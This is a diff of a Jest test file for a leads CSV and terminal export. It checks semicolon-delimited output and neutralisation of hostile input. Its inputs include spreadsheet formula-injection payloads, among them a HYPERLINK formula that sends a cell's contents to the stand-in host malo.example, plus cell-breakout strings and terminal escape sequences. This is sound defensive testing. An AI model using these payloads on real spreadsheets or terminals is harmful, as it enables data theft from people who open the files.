@@ -1,6 +1,9 @@
 /** @jest-environment node */
+import { parse } from 'csv-parse/sync';
+
 import type { Lead } from '@/api/leads';
-import { csvOf } from './csv';
+import { csvHead, csvRows } from './csv';
+import { terminalJson } from './terminal-text';
 import { lineOf, mailWarning, visitChart } from './lines';
 
 const ana: Lead = {
@@ -17,23 +20,48 @@ const ana: Lead = {
   doneAt: null,
 };
 
-test('the table is RFC 4180, in the columns that were agreed', () => {
-  expect(csvOf([ana, { ...ana, id: 3, doneAt: 1, message: '' }])).toBe(
+test('the table opens in columns in a Colombian spreadsheet, those that were agreed', () => {
+  expect(csvHead + csvRows([ana, { ...ana, id: 3, doneAt: 1, message: '' }])).toBe(
     [
-      '\uFEFFid,received,times,status,name,phone,email,services,message',
-      '12,2026-11-21T20:05:09-05:00,2,nuevo,"Ana ""la contadora"", Peña",3001234567,ana@correo.example,"Declaración de Renta, RUT","uno\r\ndos"',
-      '3,2026-11-21T20:05:09-05:00,2,atendido,"Ana ""la contadora"", Peña",3001234567,ana@correo.example,"Declaración de Renta, RUT",',
+      '\uFEFFid;received;times;status;name;phone;email;services;message',
+      '12;2026-11-21T20:05:09-05:00;2;nuevo;"Ana ""la contadora"", Peña";3001234567;ana@correo.example;Declaración de Renta, RUT;"uno\r\ndos"',
+      '3;2026-11-21T20:05:09-05:00;2;atendido;"Ana ""la contadora"", Peña";3001234567;ana@correo.example;Declaración de Renta, RUT;',
       '',
     ].join('\r\n'),
   );
 });
 
-test.each(['=1+1', '+57', '-1', '@SUM(A1)', '\t=1', '＝1+1'])('%j is no formula in a table', (typed) => {
-  expect(csvOf([{ ...ana, message: typed }])).toContain(`,'${typed}\r\n`);
+test.each([
+  ...['=1+1', '+57', '-1', '@SUM(A1)', '\t=1', '＝1+1', ' =1+1', '\r=1'],
+  ...[
+    'hola;=HYPERLINK("http://malo.example/?"&A2;"ver")',
+    'a,=1+1',
+    'a\t=1+1',
+    'a\n=1+1',
+    'a,"=1+1"',
+    '";=1+1',
+    '",=1+1',
+  ],
+])('%j is no formula in a table, wherever a program splits it', (typed) => {
+  for (const delimiter of [';', ',', '\t']) {
+    for (const field of ['name', 'message']) {
+      const rows: string[][] = parse(csvHead + csvRows([{ ...ana, [field]: typed }]), {
+        ...{ delimiter, bom: true, relax_quotes: true, relax_column_count: true },
+      });
+      expect(rows.flat().filter((cell) => /^["\s]*[=+@＝-]/.test(cell))).toEqual([]);
+    }
+  }
 });
 
 test.each(['uno\rdos', 'uno\ndos', '\r=1'])('%j stays in its cell', (typed) => {
-  expect(csvOf([{ ...ana, message: typed }]).replaceAll("'", '')).toContain(`,"${typed}"\r\n`);
+  expect(csvRows([{ ...ana, message: typed }]).replaceAll("'", '')).toContain(`;"${typed}"\r\n`);
+});
+
+test('an export says the same as JSON, with nothing in it that a terminal would obey', () => {
+  const typed = { name: 'Ana\u009b2J\u202e\u001b[31m', message: 'ñ 🧾 \u{e0041}\n"' };
+  const shown = terminalJson(JSON.stringify(typed, null, 2));
+  expect(shown.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}]/u);
+  expect(JSON.parse(shown)).toEqual(typed);
 });
 
 test('a lead is one line of the terminal, with nothing in it that a terminal would obey', () => {
